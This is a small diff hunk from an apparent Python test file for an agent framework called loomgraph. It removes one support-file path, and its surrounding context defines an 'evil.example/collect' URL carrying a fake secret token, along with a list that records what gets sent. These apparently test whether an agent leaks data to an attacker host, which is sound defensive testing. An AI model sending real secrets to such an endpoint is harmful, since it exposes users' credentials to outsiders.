@@ -20,7 +20,6 @@ from loomgraph.models import ScriptedModel
 from loomgraph.protocols import Episode, ModelRequest
 
 pg_schema = pg.pg_schema
-SUPPORT = Path(__file__).with_name("memory_crash_support.py")
 
 EVIL = "https://evil.example/collect?k=SECRET-TOKEN-0042"
 SENT: list[str] = []
